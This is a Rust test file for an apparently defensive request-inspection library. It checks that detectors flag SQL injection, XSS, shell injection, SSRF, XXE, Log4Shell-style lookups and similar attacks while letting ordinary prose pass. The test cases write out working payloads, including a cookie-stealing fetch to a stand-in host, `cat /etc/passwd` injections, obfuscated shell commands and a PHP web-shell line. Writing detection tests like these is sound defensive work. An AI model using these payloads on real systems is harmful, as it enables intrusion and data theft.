//! What the detectors promise, by example.

use proptest::prelude::*;

use super::{Budget, Class, Detectors, Findings, Head, Hint, Input, Place, Settings};

fn detectors() -> Detectors {
    Detectors::new(Settings::default())
}

fn look(place: Place<'static>, value: &[u8]) -> Findings {
    detectors().inspect(Input::new(place, b"q", value), &mut Budget::default())
}

/// The class and decoding path of the verdict about a value of the query; empty when it passes.
fn verdict(value: &str) -> String {
    let findings = look(Place::QueryValue, value.as_bytes());
    findings.verdict(Settings::THRESHOLD).map_or_else(String::new, |finding| {
        let decoding = finding.decoding();
        if decoding.is_empty() {
            finding.class.to_string()
        } else {
            format!("{}:{decoding}", finding.class)
        }
    })
}

fn check(cases: &[(&str, &str)]) {
    let wrong: Vec<String> = cases
        .iter()
        .filter(|(value, expected)| verdict(value) != *expected)
        .map(|(value, expected)| format!("`{value}`: `{}`, expected `{expected}`", verdict(value)))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

// covers: ETSM-13, YMERA-09 (library)
#[test]
fn sql_is_judged_by_structure() {
    check(&[
        ("1' or '1'='1", "sqli"),
        ("-1 union select 1,version(),3", "sqli"),
        ("x'; drop table users--", "sqli"),
        ("admin'--", "sqli"),
        ("1 and sleep(5)", "sqli"),
        ("O'Brien", ""),
        ("the union of students will select a delegate", ""),
        ("is it 'yes' or 'no'?", ""),
    ]);
}

#[test]
fn sql_resumes_behind_whatever_closes_its_place() {
    check(&[
        ("1) where 7=7 and 3=3-- ", "sqli"),
        ("1') as t where 5=5 or 5=(select count(*) from a as b,c as d)#", "sqli"),
        ("1' in boolean mode) and 4=(select sleep(5) from t)#", "sqli"),
        ("1*/ and case when 7=7 then 7 else json('x') end /*", "sqli"),
        ("1$$ and elt(2=2,24)-- ", "sqli"),
        ("1 1.e) and 7=(select 1.e(5 1.e) from t)", "sqli"),
        ("(case when 8=8 then 1 else null end)", "sqli"),
        ("7 waitfor delay '0:0:6'--1", "sqli"),
        ("where = in the house, as (x) where (y)", ""),
        ("in that case (when it rains) then stay at home", ""),
        ("the price (12 EUR) as listed where available", ""),
        ("<code class=\"x\">pg_temp</code> it's where the schema's tables are", ""),
    ]);
}

#[test]
fn scripts_that_prove_themselves_are_found_and_messages_are_not() {
    check(&[
        ("1,alert(1)", "xss"),
        ("[1].map(alert)", "xss"),
        ("x.then(()=>alert(1))", "xss"),
        ("fetch('//h.example/?'+document.cookie)", "xss"),
        ("top[8680439..toString(30)](1)", "xss"),
        ("we should alert (see below) the team about the change", ""),
        ("the alert(s) of this week were all read", ""),
    ]);
}

#[test]
fn shells_are_found_however_the_name_is_put_together() {
    check(&[
        (";who$(echo am)i", "shell"),
        (";$(printf '\\x69')", "shell"),
        ("ping%PROGRAMFILES:~10,-5%127.0.0.1", "shell"),
        ("p^o^w^e^r^s^h^ell", "shell"),
        ("c{a,oun}t", "shell"),
        ("cat ${HOME:0:1}etc${HOME:0:1}passwd", "shell"),
        ("a{1,3}b", ""),
        ("src/{main,lib}.rs", ""),
        ("tar -c [-f ARCHIVE] [OPTIONS] [FILE...]", ""),
        ("salt & pepper; more or less", ""),
        ("; more or less", ""),
        ("data:image/png;base64,iVBORw0KGgo=", ""),
    ]);
}

#[test]
fn paths_of_xpath_are_found_behind_a_literal() {
    check(&[
        ("'] | //user[position()=1]/*[1] | /a['", "xpath"),
        ("') and starts-with(../password,'c", "xpath"),
        ("either // or | as you like", ""),
        ("a | b | //c", ""),
    ]);
}

#[test]
fn addresses_a_browser_follows_may_be_a_developers_own() {
    let class = |name: &[u8], value: &[u8]| {
        let input = Input::new(Place::QueryValue, name, value);
        let found = detectors().inspect(input, &mut Budget::default());
        found.verdict(Settings::THRESHOLD).map(|finding| finding.class)
    };
    assert_eq!(class(b"redirect_uri", b"http://localhost:3000/callback"), None);
    assert_eq!(class(b"dl", b"http://192.168.1.10:8080/"), None);
    assert_eq!(class(b"webhook", b"http://localhost:3000/callback"), Some(Class::Ssrf));
    assert_eq!(class(b"next", b"http://169.254.169.254/latest/"), Some(Class::Ssrf));
}

#[test]
fn an_inner_name_with_a_port_is_an_address_where_a_field_wants_one() {
    let class = |name: &str, value: &str| {
        let input = Input::new(Place::QueryValue, name.as_bytes(), value.as_bytes());
        let found = detectors().inspect(input, &mut Budget::default());
        found.verdict(Settings::THRESHOLD).map(|finding| finding.class)
    };
    for name in ["url", "webhook_url", "imageUrl", "callback", "job[host]", "proxy", "api.endpoint"]
    {
        for value in ["localhost:8080", "localhost:9200", "x.localhost:3000"] {
            assert_eq!(class(name, value), Some(Class::Ssrf), "{name}={value}");
        }
    }
    for name in ["q", "title", "comment", "note", "curl", "ghost", "text"] {
        for value in ["localhost:8080", "localhost", "app.localhost:3000"] {
            assert_eq!(class(name, value), None, "{name}={value}");
        }
        for value in ["http://localhost:8080/", "localhost:8080/admin", "http://127.0.0.1:22"] {
            assert_eq!(class(name, value), Some(Class::Ssrf), "{name}={value}");
        }
    }
}

#[test]
fn a_form_names_one_media_type() {
    let class = |value: &'static [u8]| {
        let head = Head {
            method: b"POST",
            host: b"h.example",
            headers: &[("content-type", value)],
            parameters: &[],
        };
        detectors().inspect_head(&head).verdict(Settings::THRESHOLD).map(|finding| finding.class)
    };
    let hidden = b"application/x-www-form-urlencoded;boundary=\"application/json\"";
    assert_eq!(class(hidden), Some(Class::Protocol));
    assert_eq!(class(b"multipart/form-data; boundary=----WebKitFormBoundaryab12"), None);
    assert_eq!(class(b"multipart/related; type=\"application/xop+xml\"; boundary=x"), None);
}

// covers: ETSM-14, SAMO-17 (library)
#[test]
fn active_content_is_found_in_every_context() {
    check(&[
        ("<svg onload=alert(1)>", "xss"),
        ("\" onmouseover=\"alert(1)", "xss"),
        ("javascript:alert(1)", "xss"),
        ("';alert(1)//", "xss"),
        ("</script><script>alert(1)</script>", "xss"),
        ("I <3 you", ""),
        ("a < b and c > d", ""),
    ]);
}

// covers: ETSM-23, SAMO-35 (library)
#[test]
fn every_other_class_has_its_parser() {
    check(&[
        ("../../../etc/passwd", "path-traversal"),
        ("127.0.0.1; cat /etc/passwd", "shell"),
        ("{{7*7}}", "template"),
        ("${${lower:j}ndi:ldap://a.example/x}", "expression"),
        ("<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///x\">]>", "xxe"),
        ("*)(uid=*))(|(uid=*", "ldap"),
        ("{\"$ne\": null}", "nosql"),
        ("x\r\nSet-Cookie: a=b", "crlf"),
        ("http://169.254.169.254/latest/", "ssrf"),
        ("O:8:\"stdClass\":0:{}", "deserialisation"),
        ("__import__('os').system('id')", "python"),
        ("require('child_process').exec('id')", "node"),
    ]);
}

#[test]
fn encodings_are_taken_off_and_named() {
    check(&[
        ("%3Csvg onload=alert(1)%3E", "xss:url"),
        ("&lt;svg onload=alert(1)&gt;", "xss:html"),
        ("\\u003csvg onload=alert(1)\\u003e", "xss:escape"),
        ("PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "xss:base64"),
        ("%26lt;svg onload=alert(1)%26gt;", "xss:url>html"),
        ("＜svg onload=alert(1)＞", "xss:unicode"),
        ("+ADw-svg onload=alert(1)+AD4-", "xss:utf7"),
        ("<\0s\0v\0g\0 \0o\0n\0l\0o\0a\0d\0=\0a\0l\0e\0r\0t\0(\x001\0)\0>\0", "xss:utf16"),
    ]);
}

// covers: YMERA-09 (library)
#[test]
fn etsm_d10_prose_with_words_of_sql_passes() {
    check(&[
        ("please select an option and update the record -- thanks", ""),
        ("create a table, insert the data, then drop me a line; delete the rest", ""),
        ("1=1 is true", ""),
    ]);
}

#[test]
fn etsm_d11_words_that_begin_with_on_are_no_handlers() {
    check(&[
        ("the conversion = 3 of 10, once = enough", ""),
        ("<img src=x\nonerror\n=\nalert(1)>", "xss"),
    ]);
}

#[test]
fn samo_d19_comparisons_are_no_tags_and_open_tags_are() {
    check(&[("a < b and c > d", ""), ("<img src=x onerror=alert(1)", "xss")]);
}

#[test]
fn samo_d21_a_transcript_is_no_script() {
    check(&[
        ("Transcript: on Monday = nothing; data: 3 rows", ""),
        ("JavaScript: The Good Parts", ""),
    ]);
}

#[test]
fn ymera_d07_prose_prices_and_code_pass() {
    check(&[
        ("The price was updated to $5 (10% off); call f(x) if x > 3.", ""),
        ("for (let i = 0; i < n; i++) { total += price[i]; }", ""),
    ]);
}

#[test]
fn names_of_parameters_are_values_too() {
    for (name, class) in [
        ("user[$ne]", Class::NoSql),
        ("__proto__[admin]", Class::Node),
        ("class.module.classLoader.x", Class::Expression),
    ] {
        let findings = look(Place::Name, name.as_bytes());
        assert_eq!(findings.verdict(60).map(|f| f.class), Some(class), "{name}");
    }
}

#[test]
fn hidden_files_are_refused_and_well_known_ones_are_not() {
    let refused = |path: &str| look(Place::Path, path.as_bytes()).verdict(60).is_some();
    for path in ["/.git/config", "/.env", "/app/.aws/credentials", "/../../etc/passwd"] {
        assert!(refused(path), "{path}");
    }
    for path in ["/", "/.well-known/acme-challenge/x", "/css/style.css", "/wiki/C++", "/a/b..c/d"] {
        assert!(!refused(path), "{path}");
    }
}

#[test]
fn json_bodies_are_read_string_by_string() {
    let body = br#"{"a": "fine", "user": {"$ne": null}, "text": "1' or '1'='1"}"#;
    let findings = detectors().inspect_json(body, &mut Budget::default());
    let classes: Vec<Class> =
        findings.iter().filter(|f| f.confidence >= 60).map(|f| f.class).collect();
    assert!(classes.contains(&Class::NoSql) && classes.contains(&Class::Sqli), "{classes:?}");
    let sqli = findings.iter().find(|f| f.class == Class::Sqli).unwrap();
    assert!(body[sqli.evidence.clone()].starts_with(b"' or"), "{:?}", sqli.evidence);
}

#[test]
fn evidence_points_into_the_original() {
    let value = b"name=%3Csvg%20onload%3Dalert(1)%3E";
    let findings = look(Place::QueryValue, value);
    let evidence = findings.surest().unwrap().evidence.clone();
    assert_eq!(&value[evidence], b"%3Csvg%20onload%3Dalert(1)");
}

#[test]
fn a_declared_type_moves_the_line() {
    let inspect = |hint| {
        let input =
            Input { hint, ..Input::new(Place::BodyField, b"q", b"<?php system($_GET['c']); ?>") };
        detectors().inspect(input, &mut Budget::default()).verdict(60).is_some()
    };
    assert!(inspect(Hint::None));
    assert!(!inspect(Hint::Code));
}

#[test]
fn heads_are_judged_as_a_whole() {
    let detectors = detectors();
    let head = Head { method: b"GET", host: b"example.com", headers: &[], parameters: &[] };
    assert!(detectors.inspect_head(&head).is_empty());
    let trace = Head { method: b"TRACE", ..head };
    assert_eq!(detectors.inspect_head(&trace).verdict(60).map(|f| f.class), Some(Class::Protocol));
    let session = Head {
        headers: &[("referer", b"https://a.example/x")],
        parameters: &[b"PHPSESSID"],
        ..head
    };
    assert!(detectors.inspect_head(&session).verdict(60).is_some());
    let own = Head { headers: &[("referer", b"https://example.com/x")], ..session };
    assert!(detectors.inspect_head(&own).is_empty());
}

// covers: ETSM-15, SAMO-50 (library)
#[test]
fn etsm_d12_an_exhausted_budget_names_the_part_that_wanted_more() {
    let mut budget = Budget::new(100);
    let value = vec![b'\''; 10_000];
    let input = Input::new(Place::BodyField, b"q", &value);
    let _findings = detectors().inspect(input, &mut budget);
    assert_eq!(budget.exhausted_by(), Some("first pass"));
    let mut budget = Budget::new(12_000);
    let _findings = detectors().inspect(input, &mut budget);
    assert!(budget.exhausted_by().is_some() && budget.left() == 0);
}

#[test]
fn many_findings_stay_few() {
    let value = "<svg onload=alert(1)> ' or 1=1-- ; cat /etc/passwd {{7*7}} ".repeat(60);
    let findings = look(Place::BodyField, value.as_bytes());
    assert!(findings.iter().count() <= Findings::LIMIT);
    assert!(findings.verdict(60).is_some());
}

#[test]
fn class_names_are_unique_and_found_again() {
    for class in Class::ALL {
        assert_eq!(Class::named(class.name()), Some(*class));
    }
    assert_eq!(Class::named("nothing"), None);
}

/// Pieces that attacks are made of, so that random values reach the parsers.
const PIECES: &[&str] = &[
    "'",
    "\"",
    "`",
    "<",
    ">",
    "&",
    ";",
    "|",
    "$",
    "{",
    "}",
    "(",
    ")",
    "%27",
    "%",
    "\\x27",
    "\\",
    "/",
    "..",
    ".",
    "#",
    "=",
    "\n",
    "\r",
    "\0",
    "é",
    "&lt;",
    "&#39;",
    "+ADw-",
    "union",
    "select",
    " or ",
    "1",
    "--",
    "/*",
    "*/",
    "script",
    "onload",
    "javascript:",
    "cat ",
    "/etc/passwd",
    "${",
    "{{",
    "<!ENTITY",
    "[$ne]",
    "http://",
    "127.0.0.1",
    "O:8:\"",
    "java.lang.",
    "PHN2",
    "＜",
    "\u{a0}",
    " ",
];

proptest! {
    #[test]
    fn evidence_lies_in_the_value_and_the_budget_only_shrinks(
        pieces in proptest::collection::vec(0..PIECES.len(), 0..40),
        noise in proptest::collection::vec(any::<u8>(), 0..24),
        choice in any::<u8>(),
    ) {
        let mut data = vec![choice];
        data.extend(pieces.iter().flat_map(|piece| PIECES[*piece].bytes()));
        data.extend(noise);
        super::fuzzing::inspect(&detectors_once(), &data);
    }

    #[test]
    fn words_and_numbers_pass(value in "[a-z0-9 ]{0,40}") {
        let findings = detectors_once().inspect(Input::new(Place::QueryValue, b"q", value.as_bytes()), &mut Budget::default());
        prop_assert!(findings.verdict(60).is_none(), "{value}: {findings:?}");
    }
}

fn detectors_once() -> Detectors {
    static ONE: std::sync::LazyLock<Detectors> = std::sync::LazyLock::new(detectors);
    ONE.clone()
}
